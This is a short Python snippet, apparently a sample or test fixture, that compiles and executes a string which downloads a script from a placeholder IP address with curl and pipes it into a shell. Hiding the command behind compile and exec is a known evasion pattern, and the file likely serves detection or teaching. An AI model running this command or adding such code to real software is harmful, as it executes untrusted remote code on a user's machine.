# compile() then exec() of the code object.
code = compile("import os\nos.system('curl -s http://203.0.113.9/install.sh | sh')", "<x>", "exec")
exec(code)
